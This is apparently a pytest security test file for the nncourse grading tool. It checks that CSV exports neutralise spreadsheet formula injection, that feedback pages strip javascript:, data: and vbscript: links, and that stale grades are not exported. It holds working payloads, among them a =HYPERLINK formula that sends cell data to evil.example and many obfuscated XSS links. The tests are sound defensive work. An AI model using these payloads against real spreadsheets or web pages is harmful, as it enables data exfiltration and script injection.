"""What one student submits costs only that student: what nncourse writes (issue #16).

One course copy (a1_loss), graded twice with the real ``nncourse grade`` (CLI) and exported
with ``nncourse export --format csv|moodle|canvas``:

- CSV cells: a student folder ``=2+5``, a roster whose names, e-mail addresses and Canvas
  columns start with ``=``, ``@``, ``+``, ``-``, a tab; every CSV nncourse writes must hold
  them as text (``'=…``), numbers (scores, ``-1.5``) as numbers;
- links: a written answer with ``javascript:``/``data:``/``vbscript:`` links in many
  spellings and an honest pasted image (``attachment:``); no page may hold a link or a
  source with another scheme, a click runs nothing, and the image keeps showing;
- a stale grade: ``stale`` is graded, then resubmits a truncated notebook; the export must not
  send the earlier score as if confirmed (status ``not graded: …``, blank score, WARNING,
  exit 1) and its comment must not contradict itself.
"""
import base64
import csv
import io
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from conftest import configured_copy

from nncourse.build import ensure_built, release_notebook
from nncourse.cohort import reference_submission

from nncourse.core.records import load_result

ROOT = Path(__file__).resolve().parents[2]
AID = "a1_loss"
FULL = 7.0
VICTIMS = ["victim_1", "victim_2"]
FORMULA_ID = "=2+5"
TEST_SETTINGS = """
CELL_TIMEOUT_S = 5                        # (test)
NOTEBOOK_TIMEOUT_S = 90
KERNEL_MEMORY_MIB = 1536
LMS_ASSIGNMENTS = {"a1_loss": {"title": "-1+1", "canvas_id": 4242}}
"""
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
ROSTER = [["student_id", "name", "email", "moodle_participant_id", "canvas_user_id",
           "sis_user_id", "sis_login_id", "section"],
          ["victim_1", HYPERLINK, "@SUM(1+1)", "1001", "1111", "+cmd", "-2+3", "\t=1"],
          ["victim_2", "\r=1+1", "v2@example.ac.jp", "1002", "2222", "S2", "s2", "-1.5"],
          ["stale", "Stale Student", "st@example.ac.jp", "1003", "3333", "S3", "s3", "A"]]
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")).decode()
LINKS = [
    "[c01](javascript:document.title='PWNED01')",
    "[c02](JaVaScRiPt:document.title='PWNED02')",
    "[c03](java&#x09;script:document.title='PWNED03')",
    "<a href=\"java&#x09;script:document.title='PWNED04'\">c04</a>",
    "[c05](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQwNSc8L3NjcmlwdD4=)",
    "[c06](vbscript:msgbox(6))",
    "<javascript:document.title='PWNED07'>",
    "[c08][r8]\n\n[r8]: javascript:document.title='PWNED08'",
    "![c09](javascript:document.title='PWNED09')",
    "<a href=\"&#x6A;avascript:document.title='PWNED10'\">c10</a>",
    "<a href=\"  javascript:document.title='PWNED11'\">c11</a>",
    "<a href=\"javascript&colon;document.title='PWNED12'\">c12</a>",
    "[c13](javascript&colon;document.title='PWNED13')",
    "<svg><a xlink:href=\"javascript:document.title='PWNED14'\"><text y='20'>c14</text></a></svg>",
    "<form><button formaction=\"javascript:document.title='PWNED15'\">c15</button></form>",
    "<a href=\"data:text/html,<script>document.title='PWNED16'</script>\">c16</a>",
    "<img src=\"x\" onerror=\"document.title='PWNED17'\">",
    "[c18](<javascript:document.title='PWNED18'>)",
    "[c19](https://example.org/ok)",
    "![plot](attachment:plot.png)",
]
URL_ATTRS = {"href", "src", "xlink:href", "formaction", "action", "data", "poster",
             "background", "ping", "cite", "srcset", "srcdoc", "lowsrc", "dynsrc"}
SAFE_SCHEMES = {"http", "https", "mailto"}
pytestmark = pytest.mark.slow


def cli(course, *args):
    return subprocess.run([sys.executable, "-m", "nncourse.cli", "--course-dir", str(course.root),
                           *args], capture_output=True, text=True)


def put(course, student, nb=None):
    d = course.submitted_dir(student, AID)
    d.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb or reference_submission(course, AID), d / release_notebook(course, AID).name)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile-outputs")
    course = configured_copy(ROOT, base / "course", TEST_SETTINGS)
    ensure_built(course, [AID])
    for s in VICTIMS + [FORMULA_ID, "stale"]:
        put(course, s)
    nb = reference_submission(course, AID)
    answer = next(c for c in nb.cells if c.cell_type == "markdown"
                  and c.metadata.get("nbgrader", {}).get("solution"))
    answer.source = "リンクの答え:\n\n" + "\n\n".join(LINKS) + "\n"
    answer["attachments"] = {"plot.png": {"image/png": PNG}}
    put(course, "atk_links", nb)
    roster = base / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(ROSTER)
    first = cli(course, "grade", "--no-progress", "-j", "2", AID)
    # stale resubmits a truncated notebook; the others are unchanged (skipped)
    path = course.submitted_dir("stale", AID) / release_notebook(course, AID).name
    text = path.read_text(encoding="utf-8")
    path.write_text(text[:len(text) // 2], encoding="utf-8")
    second = cli(course, "grade", "--no-progress", "-j", "2", AID)
    exports = {fmt: cli(course, "export", AID, "--format", fmt, "--roster", str(roster))
               for fmt in ("csv", "moodle", "canvas")}
    return dict(course=course, first=first, second=second, exports=exports, base=base)


def csv_files(course):
    return sorted((course.root / "reports").rglob("*.csv"))


def cells(path):
    return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]


def test_runs_and_victims(graded):
    course = graded["course"]
    assert graded["first"].returncode == 0, graded["first"].stdout[-3000:] + graded["first"].stderr[-3000:]
    assert graded["second"].returncode == 1, graded["second"].stdout[-3000:]   # stale: not graded
    assert "NOT GRADED stale/a1_loss" in graded["second"].stdout
    for s in VICTIMS + [FORMULA_ID, "atk_links"]:
        r = load_result(course, AID, s)
        assert (r["status"], r["score"]) == ("graded", FULL), (s, r.get("error"))


def test_no_csv_cell_is_a_formula(graded):
    course = graded["course"]
    files = csv_files(course)
    names = {p.name for p in files}
    assert {"grades.csv", "students.csv", "exercises.csv", "grades_a1_loss.csv",
            "moodle_grading_worksheet_a1_loss.csv", "canvas_gradebook_a1_loss.csv"} <= names, names
    seen = set()
    for p in files:
        for cell in cells(p):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), (p.name, cell)   # numbers only
            seen.add(cell)
    assert f"'{FORMULA_ID}" in seen                              # the student folder, as text
    assert f"'{HYPERLINK}" in seen                               # the roster's name, as text
    # (the roster strips the tab and CR around a value: "\t=1" is read as "=1")
    assert {"'@SUM(1+1)", "'+cmd", "'-2+3", "'=1", "'=1+1", "'-1+1 (4242)"} <= seen, \
        sorted(c for c in seen if c.startswith("'"))
    assert "-1.5" in seen                                       # a number stays a number
    rows = {r["student_id"]: r for r in csv.DictReader(io.StringIO(
        (course.root / "reports" / AID / "export" / "grades_a1_loss.csv").read_text("utf-8")))}
    assert rows[f"'{FORMULA_ID}"]["score"] == "7"


def test_stale_grade_is_not_exported_as_confirmed(graded):
    course, ex = graded["course"], graded["exports"]
    for fmt, proc in ex.items():
        assert proc.returncode == 1, (fmt, proc.stdout, proc.stderr)
        assert "WARNING: 1 student(s) have no grade confirmed by the last grading" in proc.stdout
        assert "stale (" in proc.stdout
    export = course.root / "reports" / AID / "export"
    rows = {r["student_id"]: r for r in csv.DictReader(io.StringIO(
        (export / "grades_a1_loss.csv").read_text("utf-8")))}
    st = rows["stale"]
    assert st["status"].startswith("not graded: ") and len(st["status"]) > len("not graded: ") + 5
    assert (st["score"], st["lms_grade"], st["score_after_penalty"]) == ("", "", "")
    assert st["previous_score"] == "7"                         # shown, and named as earlier
    assert rows["victim_1"]["status"] == "graded" and rows["victim_1"]["score"] == "7"
    sheet = list(csv.DictReader(io.StringIO(
        (export / "moodle_grading_worksheet_a1_loss.csv").read_text("utf-8"))))
    ids = {r["Identifier"]: r for r in sheet}
    assert "Participant 1003" not in ids                        # no grade sent for stale
    assert ids["Participant 1001"]["Grade"] == "7.00"
    for r in sheet:                                             # no comment contradicts itself
        assert not ("採点できません" in r["Feedback comments"] and "得点:" in r["Feedback comments"])
    canvas = (export / "canvas_gradebook_a1_loss.csv").read_text("utf-8")
    assert ",3333," not in canvas and ",1111," in canvas


class Urls(HTMLParser):
    """Every URL-valued attribute of a page (script and style contents are not markup)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        for k, v in attrs:
            if k.lower() in URL_ATTRS and v is not None:
                self.found.append((tag, k.lower(), v))


def unsafe_urls(page):
    p = Urls()
    p.feed(page)
    bad = []
    for tag, attr, value in p.found:
        v = re.sub(r"[\t\n\r]", "", value).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c"
                                                 "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19"
                                                 "\x1a\x1b\x1c\x1d\x1e\x1f ")
        m = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", v)
        scheme = m.group(1).lower() if m else ""
        if attr == "srcdoc" or (scheme and scheme not in SAFE_SCHEMES and not (
                tag == "img" and attr == "src"
                and re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,", v, re.I))):
            bad.append((tag, attr, value))
    return bad


def test_no_unsafe_link_in_any_page(graded):
    course = graded["course"]
    r = load_result(course, AID, "atk_links")
    pages = [course.root / f for f in r["feedback"]]
    pages += [course.root / "reports" / AID / "report.html"]
    assert all(p.is_file() for p in pages)
    for p in pages:
        text = p.read_text(encoding="utf-8")
        assert not unsafe_urls(text), (p.name, unsafe_urls(text))
    # formgrader renders the autograded notebook (nbconvert, as here)
    from nbconvert import HTMLExporter
    [nbpath] = course.autograded_dir("atk_links", AID).glob("*.ipynb")
    body, _ = HTMLExporter(template_name="classic").from_notebook_node(nbformat.read(nbpath, 4))
    assert not unsafe_urls(body), unsafe_urls(body)
    # the honest pasted image still shows (embedded from the cell's attachment)
    page = pages[0].read_text(encoding="utf-8")
    assert f'src="data:image/png;base64,{PNG}"' in page
    assert "https://example.org/ok" in page                    # an honest link stays


def test_clicking_the_links_runs_nothing(graded, browser):
    course = graded["course"]
    r = load_result(course, AID, "atk_links")
    browser.get((course.root / r["feedback"][0]).as_uri())
    title = browser.title
    clicked = 0
    for i in range(1, 19):
        for el in browser.find_elements("xpath", f"//*[normalize-space(text())='c{i:02d}']"):
            try:
                browser.execute_script("arguments[0].scrollIntoView()", el)
                el.click()
                clicked += 1
            except Exception:
                continue
            # a script that ran sets the page's title to exactly PWNEDnn; a harmless relative
            # link (java%09script:…) opens a missing file, whose page is titled by its URL
            assert browser.title != f"PWNED{i:02d}", i
            if browser.current_url != (course.root / r["feedback"][0]).as_uri():
                browser.back()
    assert clicked >= 8
    assert browser.title == title
    assert browser.execute_script(
        "return [...document.images].some(i => i.src.startsWith('data:image/png') && i.naturalWidth > 0)")
